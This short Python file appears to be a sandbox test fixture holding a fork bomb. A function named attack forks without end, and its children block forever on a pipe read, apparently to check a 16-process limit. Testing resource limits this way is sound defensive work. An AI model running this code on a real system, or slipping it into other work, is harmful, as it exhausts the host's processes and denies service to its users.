"""Processes that double without end stop at the bound, and go with the run."""

import os

HELD = "BlockingIOError"
LIMITS = {"processes": 16}


def attack(bait):
    while True:
        if os.fork() == 0:
            try:
                while True:
                    os.fork()
            except OSError:
                os.read(os.pipe()[0], 1)
